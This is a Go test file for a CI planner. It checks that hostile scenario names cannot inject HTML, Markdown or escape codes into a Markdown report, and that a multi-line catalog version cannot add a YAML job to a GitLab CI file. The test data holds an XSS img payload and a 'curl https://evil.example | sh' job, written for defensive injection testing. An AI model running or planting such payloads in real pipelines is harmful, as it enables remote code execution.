package ci

import (
	"strings"
	"testing"

	"gitlab.com/sylva-projects/sylva-planner/internal/mdtest"
	"gitlab.com/sylva-projects/sylva-planner/planner"
)

// TestMarkdownShowsScenariosAsText: a scenario name and an initial
// revision from a checkout's CI files write no line, heading, image or
// HTML of their own in the matrix's Markdown.
func TestMarkdownShowsScenariosAsText(t *testing.T) {
	const hostile = "x\x1b[2J\n# READY nothing to do\n<img src=https://evil.example/x.png onerror=alert(1)> ![i](https://evil.example/i.png) `a|b`"
	m := &Matrix{Target: "main", Release: "1.7", Scenarios: []Scenario{{
		Name: "upgrade " + hostile, InitialRevision: "rev " + hostile, Passes: 1, K8sVersions: []string{"1.32"},
		ExpectedStatus: []planner.ExpectedStatus{{SylvaRelease: "1.7 " + hostile, AdditionalReconciliationRequired: "false"}},
		Verdict:        planner.VerdictReady,
	}}}
	var b strings.Builder
	if err := m.WriteMarkdown(&b); err != nil {
		t.Fatal(err)
	}
	out := b.String()
	if n := strings.Count(out, "evil.example/x.png"); n != 3 {
		t.Fatalf("the hostile value is shown %d times, want 3:\n%s", n, out)
	}
	for _, bad := range []string{"<img", "![i]"} {
		if strings.Contains(mdtest.Markup(out), bad) {
			t.Errorf("the Markdown holds %q outside code:\n%s", bad, out)
		}
	}
	for _, bad := range []string{"\n# READY", "\x1b"} {
		if strings.Contains(out, bad) {
			t.Errorf("the Markdown holds %q:\n%s", bad, out)
		}
	}
	// The table has its header, its rule and one row, of 6 cells each.
	lines := strings.Split(strings.TrimSpace(out), "\n")
	row := lines[len(lines)-1]
	if len(lines) != 5 || strings.Count(strings.ReplaceAll(row, `\|`, ""), "|") != 7 {
		t.Errorf("the table is not one row of 6 cells:\n%s", out)
	}
}

// TestGitLabCIKeepsTheCatalogVersionInItsComment: a catalog version with a
// line break writes no YAML of its own into the CI file.
func TestGitLabCIKeepsTheCatalogVersionInItsComment(t *testing.T) {
	m := &Matrix{Target: "main", Release: "1.7", Scenarios: []Scenario{}}
	m.Metadata.CatalogVersion = "2026.1\nevil-job:\n  script: [curl https://evil.example | sh]"
	var b strings.Builder
	if err := m.WriteGitLabCI(&b, "upgrade"); err != nil {
		t.Fatal(err)
	}
	if strings.Contains(b.String(), "\nevil-job:") {
		t.Errorf("the catalog version writes a job:\n%s", b.String())
	}
}
